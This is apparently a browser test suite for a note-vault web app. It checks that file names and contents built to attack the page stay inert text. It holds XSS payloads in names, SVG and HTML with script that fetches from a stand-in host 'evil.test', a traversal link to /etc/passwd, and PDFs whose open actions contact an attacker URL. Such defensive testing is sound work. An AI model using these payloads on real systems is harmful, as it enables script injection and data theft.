import { expect, test } from "bun:test";
import { deflateSync } from "node:zlib";
import { testGateway } from "../../support/gateway.ts";
import { until } from "../../support/until.ts";
import { withBrowser } from "./browser.ts";
import type { TestPage } from "./chromium.ts";
import { openChat } from "./chat-page.ts";
import { EVIL, expectHarmless, PAYLOADS } from "./payloads.ts";
import { fill, openVault } from "./vault-page.ts";

/** Names that would be markup, addresses, paths or options elsewhere. */
const NAMES = [
  `<img src=x onerror=window.__ran=50>.md`,
  `"><script>window.__ran=51<_script>.md`,
  `javascript:window.__ran=52.md`,
  `' onmouseover='window.__ran=53.md`,
  `a?b#c%2e%2e&d.md`,
  `\u202egpj.exe.md`,
  `--option.md`,
  `{{7*7}}.md`,
  `__proto__.md`,
  `constructor`,
];

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.__ran=60"><script>window.__ran=61</script></svg>`;
const HTML = `<!doctype html><script>window.__ran=62;fetch("http://evil.test/x")</script><img src="http://evil.test/y">`;

withBrowser("a hostile vault", (browser) => {
  test("names are names: in the tree, the page, the palette, the search, the dialogs", async () => {
    await using nest = testGateway();
    await fill(nest, Object.fromEntries(NAMES.map((name, i) => [name, `needle ${i}`])));
    await using tab = await openChat(browser(), nest);
    const { page } = tab;
    for (const [i, name] of NAMES.entries()) {
      await page.getByRole("treeitem", { name, exact: true }).click();
      await page.locator(".page", { hasText: `needle ${i}` }).waitFor();
      expect(decodeURIComponent(new URL(page.url()).pathname)).toBe(`/v/${name}`);
    }
    await page.reload();
    await page.locator(".page", { hasText: `needle ${NAMES.length - 1}` }).waitFor();
    await page.keyboard.press("Control+p");
    await page.keyboard.type("img");
    await page.getByRole("option", { name: "<img src=x" }).waitFor();
    await page.keyboard.press("Escape");
    await page.goto(`${nest.url}/search?q=needle`);
    await page.getByText(`${NAMES.length} files`).waitFor();
    await page
      .getByRole("treeitem", { name: NAMES[0] as string, exact: true })
      .focus()
      .catch(() => {});
    await page.getByRole("treeitem", { name: NAMES[0] as string, exact: true }).hover();
    await page.getByRole("button", { name: `More about ${NAMES[0]}` }).click();
    await page.getByRole("menuitem", { name: "Move to the trash" }).click();
    await page.getByText("lies in the trash.").waitFor();
    await page.getByRole("link", { name: "Trash" }).click();
    await page.getByRole("button", { name: "Restore" }).waitFor();
    await expectHarmless(tab, nest.url);
  });

  test("contents are text: read, edited, compared, searched", async () => {
    await using nest = testGateway();
    const note = `---\n${PAYLOADS[1]}: ${PAYLOADS[0]}\n---\n${PAYLOADS.join("\n\n")}\n\n[[${PAYLOADS[1]}]] [[javascript:window.__ran=70]] [[../../etc/passwd]] ![[http://evil.test/z.png]] [[x|<b onclick=window.__ran=71>]]\n`;
    await fill(nest, { "hostile.md": note, "links.md": `[[hostile]] ${PAYLOADS[1]}` });
    await using tab = await openVault(browser(), nest, "hostile.md");
    const { page } = tab;
    await page.getByText("Properties").click();
    await page.getByRole("complementary", { name: "Backlinks" }).waitFor();
    await poke(tab);
    await expectHarmless(tab, nest.url);
    await page.getByRole("button", { name: "Edit", exact: true }).click();
    await page.locator(".cm-content").click();
    await page.keyboard.press("Control+Home");
    await page.keyboard.type("x");
    await expectHarmless(tab, nest.url);
    await fill(nest, { "hostile.md": PAYLOADS.toReversed().join("\n") });
    await page.getByRole("button", { name: "Compare" }).click();
    await page.getByRole("region", { name: "Two versions" }).waitFor();
    await poke(tab);
    await expectHarmless(tab, nest.url);
    await page.goto(`${nest.url}/search?q=onerror`);
    await page.locator(".hit").first().waitFor();
    await expectHarmless(tab, nest.url);
  });

  test("SVG and HTML are shown as text; opened in a tab of their own they are not even given out", async () => {
    await using nest = testGateway();
    await fill(nest, { "a.svg": SVG, "a.html": HTML, "fake.png": HTML, "b.md": "![](a.svg)" });
    await using tab = await openVault(browser(), nest, "a.svg");
    const { page } = tab;
    await page.locator(".code", { hasText: "window.__ran=61" }).waitFor();
    await page.goto(`${nest.url}/v/a.html`);
    await page.locator(".code", { hasText: "window.__ran=62" }).waitFor();
    await page.goto(`${nest.url}/v/fake.png`);
    await page.getByText("This browser can't show it.").waitFor();
    await page.goto(`${nest.url}/v/b.md`);
    await page.locator(".page-text").getByRole("link", { name: "a.svg" }).waitFor();
    await expectHarmless(tab, nest.url);
    const own = await tab.context.newPage();
    const answer = await own.goto(`${nest.url}/api/files/a.html`);
    expect(answer?.status()).toBe(401);
    expect(await own.evaluate(() => (window as { __ran?: unknown }).__ran)).toBeUndefined();
  });

  test("pictures, sound and films are drawn from this page's memory, whatever they are called", async () => {
    await using nest = testGateway();
    await fill(nest, {
      "a.png": png(),
      "a.wav": wav(),
      "a.bin": new Uint8Array([0, 1, 2, 255]),
      "note.md": "![[a.png]]",
    });
    await using tab = await openVault(browser(), nest, "a.png");
    const { page } = tab;
    const picture = page.getByRole("img", { name: "a.png" });
    await picture.waitFor();
    expect(await picture.getAttribute("src")).toStartWith("blob:");
    await page.goto(`${nest.url}/v/a.wav`);
    await page.locator("audio").waitFor();
    await page.waitForFunction(() => (document.querySelector("audio")?.readyState ?? 0) > 0);
    await page.goto(`${nest.url}/v/note.md`);
    await page.locator(".page-text img.picture").waitFor();
    await page.goto(`${nest.url}/v/a.bin`);
    await page.getByText("This kind of file is not shown here.").waitFor();
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Download" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("a.bin");
    expect(tab.errors).toEqual([]);
    expect([...new Set(tab.requests.map((url) => new URL(url).origin))]).toEqual([
      new URL(nest.url).origin,
    ]);
  });

  test("a PDF is shown by the browser's own viewer; what it would do when opened reaches nobody", async () => {
    await using nest = testGateway();
    const actions = {
      uri: `<</S/URI/URI(${EVIL}/uri)>>`,
      script: `<</S/JavaScript/JS(app.launchURL\\("${EVIL}/js", false\\); this.submitForm\\("${EVIL}/form"\\);)>>`,
      form: `<</S/SubmitForm/F<</FS/URL/F(${EVIL}/form)>>>>`,
    };
    for (const [name, action] of Object.entries(actions))
      await fill(nest, { [`${name}.pdf`]: pdf(action) });
    await using tab = await openVault(browser(), nest, "uri.pdf");
    for (const [i, name] of Object.keys(actions).entries()) {
      await tab.page.goto(`${nest.url}/v/${name}.pdf`);
      await tab.page.locator("iframe.bytes-pdf").waitFor();
      const viewers = () => tab.requests.filter((url) => /^chrome-extension:.*html/.test(url));
      await until("the viewer is there", () => viewers().length > i);
      expect(tab.page.url()).toBe(`${nest.url}/v/${name}.pdf`);
    }
    // Another page of ours, so that what the last one began has had its time.
    await tab.page.goto(`${nest.url}/v/missing.md`);
    await tab.page.getByRole("button", { name: "Write it" }).waitFor();
    expect(tab.requests.filter((url) => url.startsWith(EVIL))).toEqual([]);
  });
});

/** Touches everything that a text could have made touchable. */
async function poke({ page }: TestPage): Promise<void> {
  await page.evaluate(() => {
    for (const element of document.querySelectorAll(".page *, .columns *")) {
      if (element.closest("a, button, summary")) continue;
      for (const type of ["mouseover", "focus", "click"])
        element.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true }));
    }
  });
}

/** One red pixel. */
function png(): Uint8Array<ArrayBuffer> {
  const chunk = (type: string, data: Uint8Array) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const whole = Buffer.alloc(12 + data.length);
    whole.writeUInt32BE(data.length);
    body.copy(whole, 4);
    whole.writeUInt32BE(Bun.hash.crc32(body), 8 + data.length);
    return whole;
  };
  const header = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]);
  return new Uint8Array(
    Buffer.concat([
      Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]),
      chunk("IHDR", header),
      chunk("IDAT", deflateSync(Buffer.from([0, 255, 0, 0]))),
      chunk("IEND", Buffer.alloc(0)),
    ]),
  );
}

/** A tenth of a second of silence. */
function wav(): Uint8Array<ArrayBuffer> {
  const samples = 800;
  const bytes = Buffer.alloc(44 + samples, 128);
  bytes.write("RIFF");
  bytes.writeUInt32LE(36 + samples, 4);
  bytes.write("WAVEfmt ", 8);
  bytes.writeUInt32LE(16, 16);
  bytes.writeUInt16LE(1, 20);
  bytes.writeUInt16LE(1, 22);
  bytes.writeUInt32LE(8000, 24);
  bytes.writeUInt32LE(8000, 28);
  bytes.writeUInt16LE(1, 32);
  bytes.writeUInt16LE(8, 34);
  bytes.write("data", 36);
  bytes.writeUInt32LE(samples, 40);
  return new Uint8Array(bytes);
}

/** A page of words, with something that should happen as soon as it is opened. */
function pdf(action: string): string {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>`,
    `<</Type/Pages/Kids[3 0 R]/Count 1>>`,
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/AA<</O ${action}>>>>`,
    `<</Length 44>>stream\nBT /F1 24 Tf 50 100 Td (Hello PDF) Tj ET     \nendstream`,
    `<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>`,
  ];
  let text = "%PDF-1.7\n";
  let table = "0000000000 65535 f \n";
  for (const [i, object] of objects.entries()) {
    table += `${String(text.length).padStart(10, "0")} 00000 n \n`;
    text += `${i + 1} 0 obj\n${object}\nendobj\n`;
  }
  return `${text}xref\n0 6\n${table}trailer<</Size 6/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF`;
}
